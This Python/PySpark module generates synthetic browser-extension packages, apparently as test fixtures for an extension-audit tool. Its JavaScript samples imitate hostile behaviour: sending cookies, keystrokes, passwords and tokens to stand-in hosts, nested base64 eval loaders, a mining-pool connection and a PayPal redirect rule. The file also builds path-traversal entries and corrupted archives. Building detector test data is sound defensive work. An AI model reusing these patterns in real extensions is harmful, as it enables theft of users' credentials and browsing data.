r"""A package corpus derived from the ``documents`` table.

The driver tables hold no extension code, so each document becomes one script: a code
sample of ours in front of its whole text. Twenty documents make a package. Its manifest
and extra files are templates filled from the tables: the host of the page and the name of the
customer of the same number. Rows, packages and text grow with the tables.
"""

from __future__ import annotations

import base64
import json
import struct
from functools import cached_property

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.text import string_array
from ..functions.urls import host_of
from ..session import growing, staged_path
from ..sources.archives import write_archives
from .audit import Audit

FILES_PER_PACKAGE = 20

PATHS = [
    "background.js", "content/main.js", "popup/popup.js", "options/options.js", "src/util.js",
    "src/api/client.js", "injectors/hook.js", "devtools/panel.js", "side/side_panel.js", "sandbox/frame.js",
    "lib/jquery.min.js", "vendor/lodash.js", "src/tracker.js", "src/executors/inject.js", "pages/newtab.js",
    "workers/miner.js", "scripts/overlay.js", "src/polyfill.js", "assets/chunk.js", "src/orphan.js",
]



def _encoded(code: str) -> str:
    return f'eval(atob("{base64.b64encode(code.encode()).decode()}"));'


_HIDDEN = (
    "const shown = 1;\n" + _encoded('const jar2 = document.cookie;\nfetch("https://layer-one.example.org/c", { body: jar2 });\nchrome.history.search({ text: "" });\n'
                                   + _encoded('axios.post("https://layer-two.example.net/d", localStorage.getItem("t"));'))
    + '\nvar target = "\\x6c\\x61\\x79\\x65\\x72\\x2e\\x69\\x6f";\neval("let q9 = \\"https://evaluated.example.com/q\\";\\nfetch(q9);");\n'
    + 'const far = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 99, 111, 100, 101, 115, 46, 101, 120, 97, 109, 112, 108, 101, 46, 111, 114, 103);\n')

SNIPPETS = [
    # session cookie to a remote host
    'const jar = document.cookie;\nfetch("https://collect.sneaky-data.top/c?v=" + jar);\n',
    # key listener with beacon
    'document.addEventListener("keydown", (e) => { buffer += e.key; });\nnavigator.sendBeacon("https://keys.example.net/k", buffer);\n',
    # password field and XHR
    'const field = document.querySelector("input[type=password]");\nconst xhr = new XMLHttpRequest();\nxhr.open("POST", "https://login-mirror.xyz/save");\nxhr.send(field.value);\n',
    # constants, concatenation and template
    'const BASE = "https://api.shopmetrics.io";\nconst ROUTE = BASE + "/v2/items";\nconst full = `${ROUTE}/list`;\nfetch(full);\naxios.post(BASE + "/log", { ok: 1 });\n',
    # configuration object
    'const host = "https://cfg.adnxs.com";\nconst config = { api: "https://track.criteo.com/p", log: host };\nfetch(config.api);\nfetch(config.log);\n',
    # imports and workers
    'import { helper } from "./util.js";\nimport "../lib/jquery.min.js";\nimport("./tracker.js");\nconst client = require("./api/client.js");\nconst w = new Worker("../workers/miner.js");\n',
    # injected file list
    'chrome.scripting.executeScript({ target: { tabId: id }, files: ["src/executors/inject.js",\n  "scripts/overlay.js"] });\nchrome.tabs.query({ active: true });\n',
    # dynamic code
    'eval("run()");\nconst f = new Function("return 1");\nsetTimeout("tick()", 100);\nsetInterval(poll, 5000);\n',
    # network hooks with platforms
    'const realOpen = XMLHttpRequest.prototype.open;\nXMLHttpRequest.prototype.open = function (m, u) { return realOpen.call(this, m, u); };\nwindow.fetch = async function (u) { return u; };\nconst ads = ["graph.facebook.com", "https://www.tiktok.com/api/aweme/post"];\n',
    # history and geolocation replacement
    'history.pushState = function (s) { log(s); };\nnavigator.geolocation.getCurrentPosition = function (ok) { ok(fake); };\nchrome.proxy.settings.set({ value: cfg });\n',
    # affiliate link
    'const link = "https://shop.10xprofit.io/go?asin=B01&tag=mine-20";\nwindow.open(link);\nchrome.tabs.create({ url: "https://deals.example.org/p?ref=ext" });\nlocation.href = "https://www.example.com/plain";\n',
    # obfuscated names and escapes
    'var _0x12ab = ["\\x61\\x62\\x63\\x64", "\\x65\\x66\\x67"];\nvar _0xbeef = _0x12ab[_0xbeef];\nconst s = "\\u0068\\u0069\\u0021";\nvar _0xcafe = atob("aGVsbG8gd29ybGQ=");\n',
    # character codes and eval body
    'const t = String.fromCharCode(72, 101, 108, 108, 111);\neval("alert(1)");\nconst u = atob("bm90IHByaW50YWJsZQ==");\nconst k = atob("aHR0cHM6Ly9oaWRkZW4uYmFkLmNsaWNr");\n',
    # remote script and iframe
    'const s = document.createElement("script");\ns.src = "https://cdn.payload-host.xyz/x.js";\nconst f = document.createElement("iframe");\nf.src = "http://203.0.113.9/frame";\ndocument.body.appendChild(s);\n',
    # storage and tokens
    'const token = localStorage.getItem("access_token");\nchrome.storage.local.get("state");\nfetch("https://sync.example.com/t", { headers: { Authorization: token } });\n',
    # cookies API with promise
    'chrome.cookies.getAll({}).then(all => fetch("https://jar.example.org/up", { body: all }));\nchrome.history.search({ text: "" }).then((h) => send(h));\n',
    # message hop
    'const secret = document.querySelector("#login").value;\nchrome.runtime.sendMessage({ secret });\nwindow.postMessage(secret, "*");\n',
    # background relay
    'chrome.runtime.onMessage.addListener((m) => relay(m));\nchrome.runtime.onMessageExternal.addListener((m) => relay(m));\nfetch("https://relay.badtld.click/in", { method: "POST" });\n',
    # page rewriting
    'document.body.innerHTML = banner;\nconst o = document.createElement("div");\no.style = "position:fixed;z-index:99999";\ndocument.write("<b>hi</b>");\nnew MutationObserver(cb);\n',
    # clipboard and selection
    'navigator.clipboard.readText().then((t) => keep(t));\nconst sel = window.getSelection();\ndocument.execCommand("paste");\ndocument.addEventListener("submit", onSubmit);\n',
    # fingerprinting
    'const px = canvas.toDataURL();\nconst gl = view.getContext("webgl");\nconst cores = navigator.hardwareConcurrency;\nctx.getImageData(0, 0, 9, 9);\nnew AudioContext();\n',
    # mining
    'WebAssembly.instantiate(bytes);\nnew WebSocket("wss://pool.supportxmr.com:443");\nminer.start();\nchrome.alarms.create("beat", { periodInMinutes: 0.3 });\n',
    # management
    'chrome.management.getAll((list) => scan(list));\nchrome.management.setEnabled(id, false);\nconsole.clear();\n',
    # downloads
    'chrome.downloads.download({ url: "https://files.example.net/setup.exe" });\nchrome.downloads.onCreated.addListener(watch);\nconst b = new Blob([data]);\n',
    # tracking identifiers
    'const id = crypto.randomUUID();\ngtag("config", "G-ABCD12345");\nif (flags.ecommerceEnabled) { report(tab.url); }\nconst campaign = ad.campaignId;\n',
    # header rules
    'chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules });\nchrome.webRequest.onBeforeRequest.addListener(cb, filter, ["blocking"]);\nreq.setRequestHeader("Authorization", bearer);\n',
    # navigation observers
    'chrome.tabs.onUpdated.addListener(seen);\nchrome.webNavigation.onCommitted.addListener(seen);\nchrome.bookmarks.getTree(keep);\nchrome.tabs.update(id, { url });\n',
    # wallet words
    'const words = "seed phrase";\nconst m = \'metamask\';\nconst q = document.getElementById("wallet-password");\nconst h = "x-api-key";\n',
    # comments and strings
    '// fetch("https://commented.example.com/a")\n/* eval("x")\n   atob("eA==") */\nconst note = "not // a comment";\nconst r = /ab\\/c/g;\nfetch("https://kept.example.com/b"); // tail\n',
    # infrastructure only
    'fetch("https://us-central1-app.cloudfunctions.net/save");\nfetch("https://my-app.web.app/load");\nconst ns = "http://www.w3.org/2000/svg";\n',
    # destructuring
    'const { user, pass } = document.forms;\nconst payload = { a: pass };\nconst out = JSON.stringify(payload);\nnavigator.sendBeacon("https://form.example.org/f", out);\n',
    # variable chain
    'let a1 = sessionStorage.getItem("sid");\nlet b1 = a1;\nlet c1 = b1 + "x";\nlet d1 = c1;\naxios.post("https://chain.example.net/z", d1);\n',
    # long constant chain, a call over several lines and a cut that is none
    'const k1 = "https://deep";\nconst k2 = k1 + ".const";\nconst k3 = k2 + "-chain";\nconst k4 = k3 + ".example";\nconst k5 = k4 + ".org";\nconst k6 = k5 + "/v";\nconst k7 = k6 + "1";\n'
    'fetch(\n  k7,\n  { method: "POST", body: document.cookie });\nfetch("https://cut.example.top/x;y=" + document.cookie); let after = tab.urls;\nsend(tab.url);\n',
    # minified by escapes, sends without a readable address
    'const z = "' + "\\x41" * 101 + '";\nfetch(w);\nconst home = "https://quiet.example.info/p";\n',
    # plain helpers
    'function add(a, b) { return a + b; }\nexport const version = "1.0.0";\nconst el = document.getElementById("app");\nel.textContent = version;\n',
    # short assignments
    'a=1;b=2;c=3;d=4;e=5;f=6;g=7;h=8;i=9;j=10;k=11;l=12;m=13;n=14;o=15;p=16;q=17;r=18;s=19;t=20;\n',
    # dynamic URL and sensitive hosts
    'fetch(base + path);\nfetch("https://www.paypal.com/x");\nfetch("https://accounts.google.com/o");\nnew EventSource("https://chat.openai.com/s");\n',
    # message sinks without a source
    'chrome.tabs.sendMessage(id, { ping: 1 });\nchrome.runtime.connectNative("host.app");\nresponse.clone();\n',
    # insecure and raw addresses
    'fetch("http://198.51.100.7/a.js");\nfetch("http://localhost:8080/dev");\nconst img = "http://www.google-analytics.com/collect";\nconst z = "https://static.zone.zip/q";\n',
    # declaration lists and comma expressions, as minified code has them
    'const P = "https://first", Q = P + ".list.example.org", R = [1, 2], S = f(R, 3), T = Q + "/t";\nfetch(T);var n, h = "https://bare.list.example.net", o = { u: h + "/o", v: { w: 1 } };fetch(o.u);\n'
    'let j = 1, v = document.cookie, w = v + j;navigator.sendBeacon("https://list.example.top/l", w);el.src = "a.js", el.id = "x", p.href = h;\nfor (let i = 0, m = localStorage.getItem("m"); i < 3; i++) send(i, m);\n',
    # binding patterns
    'const { a: { token }, ...others } = JSON.parse(document.cookie), [first, , { deep: [second = 4] }] = sessionStorage.getItem("p");\nfetch("https://nested.example.org/n", { body: second });\naxios.post("https://nested.example.org/r", others);\n'
    'chrome.storage.local.get("k").then(({ k }) => fetch("https://then.example.org/k", { body: k }));\nchrome.cookies.getAll({}).then(function ([one, { value: two }]) { navigator.sendBeacon("https://then.example.org/f", two); }).then(all => keep(all));\n'
    '({ left, right: box.side } = chrome.tabs.query({}));\nchrome.runtime.sendMessage(box);\n',
    # code hidden in encoded literals, one inside the other
    _HIDDEN,
]

_EXPOSED = [{"resources": ["scripts/overlay.js", "img/a.png"], "matches": ["<all_urls>"]}]
MANIFESTS = [
    {"manifest_version": 3, "name": "@NAME@ Helper", "version": "1.2", "author": "Example Labs",
     "permissions": ["cookies", "scripting", "storage", "tabs"], "host_permissions": ["<all_urls>", "https://*.paypal.com/*", "https://@HOST@/*"],
     "background": {"service_worker": "background.js"}, "action": {"default_popup": "popup/popup.html"},
     "content_scripts": [{"matches": ["<all_urls>"], "js": ["content/main.js"], "run_at": "document_start"}],
     "web_accessible_resources": _EXPOSED},
    {"manifest_version": 2, "name": "__MSG_appName__", "version": "0.9", "default_locale": "es",
     "permissions": ["tabs", "history", "webRequest", "webRequestBlocking", "*://*/*", "*://*.@HOST@/*"], "background": {"scripts": ["background.js", "src/util.js"]},
     "browser_action": {"default_popup": "/popup/popup.html"}, "options_page": "options/options.html"},
    {"manifest_version": 3, "name": "Quiet Reader", "version": "2", "author": {"name": "Quiet Works"},
     "permissions": ["declarativeNetRequest", "proxy", "alarms"], "optional_permissions": ["downloads", "management"],
     "host_permissions": ["https://mail.google.com/*", "https://@HOST@/*"], "background": {"service_worker": "background.js"},
     "content_scripts": [{"matches": ["*://*/*"], "js": ["content/main.js", "scripts/overlay.js"], "css": ["style.css"]}],
     "declarative_net_request": {"rule_resources": [{"path": "rules/main.json"}, {"path": "rules/broken.json"}]}},
    {"manifest_version": "3", "name": "__MSG_missing_key__", "version": "1", "permissions": ["clipboardRead", "desktopCapture", "debugger"],
     "side_panel": {"default_path": "side/panel.html"}, "externally_connectable": {"matches": ["*://*.example.com/*", "https://@HOST@/*"]},
     "chrome_url_overrides": {"newtab": "pages/newtab.html"}},
    {"manifest_version": 2, "name": "Metrics", "version": "4.1", "permissions": ["downloads", "bookmarks", "nativeMessaging", "https://shopmetrics.io/*"],
     "content_scripts": [{"matches": ["https://www.facebook.com/*", "https://bank.example.com/*"], "js": ["content/main.js"]}],
     "sandbox": {"pages": ["sandbox/frame.html"]}, "web_accessible_resources": ["img/a.png"]},
    {"manifest_version": 3, "name": "广告 助手", "version": "1.0", "permissions": ["storage"], "action": {"default_popup": "popup/popup.html"}},
    {"manifest_version": 3, "name": "Guard", "version": "7", "permissions": ["management", "webNavigation", "sessions", "unknownThing"],
     "devtools_page": "devtools/panel.html", "options_ui": {"page": "options/options.html"},
     "externally_connectable": {"ids": ["*"]}, "background": {"service_worker": "background.js"}},
]
MANIFEST_TEXTS = [json.dumps(m, indent=2, ensure_ascii=False) for m in MANIFESTS]

_PAGE = '<!DOCTYPE html>\n<html><head>\n<script src="{a}"></script>\n<script defer src="{b}"></script>\n</head></html>\n'
_RULES = json.dumps([
    {"id": 1, "action": {"type": "redirect", "redirect": {"url": "https://mirror.sneaky-data.top/p"}},
     "condition": {"urlFilter": "||paypal.com", "resourceTypes": ["main_frame"]}},
    {"id": 2, "action": {"type": "modifyHeaders"}, "condition": {"urlFilter": "*://*/*", "resourceTypes": ["xmlhttprequest", "image"]}},
    {"id": 3, "action": {"type": "block"}, "condition": {"urlFilter": "||@HOST@^"}},
    {"id": 4, "action": {"type": "redirect", "redirect": {"extensionPath": "/img/a.png"}}, "condition": {"regexFilter": "tracker"}},
    {"id": 5, "action": {"type": "redirect", "redirect": {"url": "https://fonts.gstatic.com/x"}}, "condition": {"urlFilter": "fonts.example.net/x"}},
], indent=1)
# (template or -1 for every package, path, text)
EXTRA_FILES = [
    (-1, "popup/popup.html", _PAGE.format(a="popup.js", b="../src/util.js?v=3")),
    (0, "img/a.png", ""),
    (0, "vendor/payload.zip", ""),
    (1, "options/options.html", _PAGE.format(a="options.js", b="https://@HOST@/lib.js")),
    (1, "_locales/en/messages.json", json.dumps({"appName": {"message": "@NAME@ Mate"}, "other": {"message": "x"}})),
    (1, "_locales/es/messages.json", json.dumps({"appName": {"message": "Amigo"}})),
    (2, "rules/main.json", _RULES),
    (2, "rules/broken.json", "[{not json"),
    (2, "style.css", "p{margin:0}\n"),
    (3, "side/panel.html", _PAGE.format(a="side_panel.js", b="/src/tracker.js")),
    (3, "pages/newtab.html", _PAGE.format(a="newtab.js", b="gone.js")),
    (3, "node_modules/x/index.js", "a()\n"),
    (4, "sandbox/frame.html", _PAGE.format(a="frame.js", b="frame.mjs")),
    (6, "devtools/panel.html", _PAGE.format(a="panel.js", b="http://remote.example.org/dev.js")),
]


#: Stored uncompressed, so that a flipped byte is found by the checksum and not by the decompressor.
STORED = frozenset(["manifest.json"])


def finished(ext_id: str, data: bytes) -> bytes:
    """What becomes of the archive of a package: CRX headers of both versions, and some that are damaged."""
    number = int(ext_id.removeprefix("ext-"))
    if number % 11 == 5:
        return b"not an archive" + data[:20]
    if number % 17 == 7:
        at = data.index(b"manifest.json") + len("manifest.json") + 5
        data = data[:at] + bytes([data[at] ^ 1]) + data[at + 1:]
    if number % 7 == 3:
        return b"Cr24" + struct.pack("<II", 3, 7) + b"h" * 7 + data
    if number % 7 == 4:
        return b"Cr24" + struct.pack("<III", 2, 3, 4) + b"k" * 7 + data
    return data


def read(spark: SparkSession, folder: str, table: str) -> DataFrame:
    return spark.read.parquet(f"{folder}/{table}.parquet")


def spread(rows: DataFrame, *key: str) -> DataFrame:
    """Spread rows before heavy text work when the source has fewer splits than the cluster
    has cores (the driver's files are one split each). Corpora in many splits stay as they are."""
    parts = rows.sparkSession.sparkContext.defaultParallelism
    return rows.repartition(parts, *key) if rows.rdd.getNumPartitions() < parts else rows


class Corpus(Audit):
    """Audit of the derived corpus."""

    def __init__(self, spark: SparkSession, folder: str):
        self.spark, self.folder = spark, folder

    def table(self, name: str) -> DataFrame:
        return read(self.spark, self.folder, name)

    @cached_property
    def scripts(self) -> DataFrame:
        """(ext_id, path, raw) of every script."""
        docs = spread(self.table("documents").select("doc_id", "text"), "doc_id")
        slot = (F.col("doc_id") % FILES_PER_PACKAGE).cast("int")
        sample = (F.col("doc_id") % len(SNIPPETS)).cast("int")
        return docs.select(
            F.concat(F.lit("ext-"), F.expr(f"doc_id div {FILES_PER_PACKAGE}").cast("string")).alias("ext_id"),
            F.get(string_array(PATHS), slot).alias("path"),
            F.concat(F.get(string_array(SNIPPETS), sample), F.col("text")).alias("raw"))

    @cached_property
    def packages(self) -> DataFrame:
        """(ext_id, ext_no, host, name): one row per package with the values that fill its templates."""
        number = F.expr(f"doc_id div {FILES_PER_PACKAGE}")
        numbers = self.table("documents").select(number.alias("ext_no")).distinct()
        hosts = self.table("pages").select(F.col("page_id").alias("ext_no"), host_of(F.col("url")).alias("host"))
        names = self.table("customer").select(F.col("c_custkey").alias("ext_no"), F.col("c_name").alias("name"))
        return growing(numbers.join(growing(hosts), "ext_no", "left").join(growing(names), "ext_no", "left").select(
            F.concat(F.lit("ext-"), F.col("ext_no").cast("string")).alias("ext_id"), "ext_no",
            F.coalesce("host", F.lit("none.example.com")).alias("host"), F.coalesce("name", F.lit("Nobody")).alias("name")))

    @staticmethod
    def _filled(template: Column) -> Column:
        return F.replace(F.replace(template, F.lit("@HOST@"), F.col("host")), F.lit("@NAME@"), F.col("name"))

    @cached_property
    def manifest_texts(self) -> DataFrame:
        template = (F.col("ext_no") % len(MANIFEST_TEXTS)).cast("int")
        return self.packages.select("ext_id", self._filled(F.get(string_array(MANIFEST_TEXTS), template)).alias("text"))

    @cached_property
    def extra_files(self) -> DataFrame:
        """(ext_id, path, text) of the files that are not scripts."""
        extras = F.array(*[F.struct(F.lit(t).alias("t"), F.lit(p).alias("path"), F.lit(x).alias("text"))
                           for t, p, x in EXTRA_FILES])
        template = F.col("ext_no") % len(MANIFEST_TEXTS)
        return self.packages.select("ext_id", "host", "name", template.alias("template"), F.explode(extras).alias("e")).filter(
            (F.col("e.t") == -1) | (F.col("e.t") == F.col("template"))).select("ext_id", "e.path", self._filled(F.col("e.text")).alias("text"))

    @cached_property
    def packed_files(self) -> DataFrame:
        """(ext_id, path, text) as they go into archives; every thirteenth package has a path outside its root."""
        outside = self.packages.filter(F.col("ext_no") % 13 == 6).select("ext_id", F.lit("../evil.js").alias("path"), F.lit("x").alias("text"))
        return self.all_files.select("ext_id", "path", "text").unionByName(outside)

    @cached_property
    def archives(self) -> str:
        """Folder with an archive of every package, written once."""
        folder = staged_path(self.spark)
        write_archives(self.packed_files, folder, finished, STORED).write.format("noop").mode("overwrite").save()
        return folder
